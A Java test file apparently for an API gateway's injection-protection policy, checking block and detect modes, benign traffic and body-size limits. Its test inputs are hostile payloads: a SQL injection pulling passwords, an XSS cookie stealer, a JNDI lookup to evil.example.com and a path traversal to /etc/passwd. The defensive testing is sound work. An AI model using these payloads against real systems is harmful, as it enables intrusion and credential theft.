package io.gatehouse.testing;

import static org.assertj.core.api.Assertions.assertThat;

import io.gatehouse.gateway.security.InjectionDetection;
import io.gatehouse.gateway.security.InjectionDetections;
import io.gatehouse.insight.injection.InjectionCategory;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** {@code injection-protection} through the real gateway: block, detect, benign traffic, bodies. */
class InjectionProtectionTest {
  @RegisterExtension static final GatehouseExtension GH = GatehouseExtension.create();

  static final String CONFIG = """
      backends:
        - name: echo
          url: ${env:UPSTREAM_URL}
      apis:
        - name: shop
          path: /shop
          backend: echo
          subscriptionRequired: false
          policies: {inbound: [{injection-protection: {action: block}}]}
        - name: watch
          path: /watch
          backend: echo
          subscriptionRequired: false
          policies: {inbound: [{injection-protection: {action: detect}}]}
        - name: small
          path: /small
          backend: echo
          subscriptionRequired: false
          policies: {inbound: [{injection-protection: {max-body-size: 64}}]}
      """;

  final LinkedBlockingQueue<InjectionDetection> detections = new LinkedBlockingQueue<>();
  AutoCloseable subscription;

  @BeforeEach
  void configure() {
    GH.apply(CONFIG);
    subscription = InjectionDetections.subscribe(detections::add);
  }

  @AfterEach
  void unsubscribe() throws Exception {
    subscription.close();
  }

  @Test
  void blocksSqlInjectionInTheQueryWithAProblemBody() throws Exception {
    HttpResponse<String> r = GH.get("/shop/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--");
    assertThat(r.statusCode()).isEqualTo(403);
    assertThat(r.headers().firstValue("Content-Type")).hasValue("application/problem+json");
    assertThat(r.body()).contains("injection protection").doesNotContain("UNION");
    assertThat(GH.upstream().drain()).isEmpty();
    InjectionDetection d = detections.poll(5, TimeUnit.SECONDS);
    assertThat(d).isNotNull();
    assertThat(d.blocked()).isTrue();
    assertThat(d.api()).isEqualTo("shop");
    assertThat(d.findings()).anyMatch(f -> f.category() == InjectionCategory.SQLI && f.location().equals("query:id"));
  }

  @Test
  void letsBenignRequestsThrough() throws Exception {
    HttpResponse<String> r = GH.send(GH.request("/shop/items?q=red%20shoes&page=2")
        .header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofString("{\"name\":\"O'Brien\",\"note\":\"select the blue one, please\"}"))
        .build());
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(GH.upstream().take(5).bodyText()).contains("O'Brien");
    assertThat(detections).isEmpty();
  }

  @Test
  void blocksInjectionInAJsonBodyAndAHeader() throws Exception {
    HttpResponse<String> body = GH.send(GH.request("/shop/items").header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofString("{\"comment\":\"<script>alert(document.cookie)</script>\"}")).build());
    assertThat(body.statusCode()).isEqualTo(403);
    HttpResponse<String> header = GH.get("/shop/items", "X-Api-Version", "${jndi:ldap://evil.example.com/a}");
    assertThat(header.statusCode()).isEqualTo(403);
    assertThat(GH.upstream().drain()).isEmpty();
  }

  @Test
  void detectModeLetsTheAttackThroughAndRaisesADetection() throws Exception {
    HttpResponse<String> r = GH.get("/watch/files?name=..%2F..%2F..%2Fetc%2Fpasswd");
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(GH.upstream().take(5)).isNotNull();
    InjectionDetection d = detections.poll(5, TimeUnit.SECONDS);
    assertThat(d).isNotNull();
    assertThat(d.blocked()).isFalse();
    assertThat(d.api()).isEqualTo("watch");
    assertThat(d.clientIp()).isEqualTo("127.0.0.1");
  }

  @Test
  void bodyOverTheInspectionLimitWithKnownLengthIsForwardedAfterInspectingTheRest() throws Exception {
    String big = "{\"text\":\"" + "a".repeat(200) + "\"}";
    HttpResponse<String> r = GH.send(GH.request("/small/x").header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofString(big)).build());
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(GH.upstream().take(5).bodyText()).hasSize(big.length());
  }
}
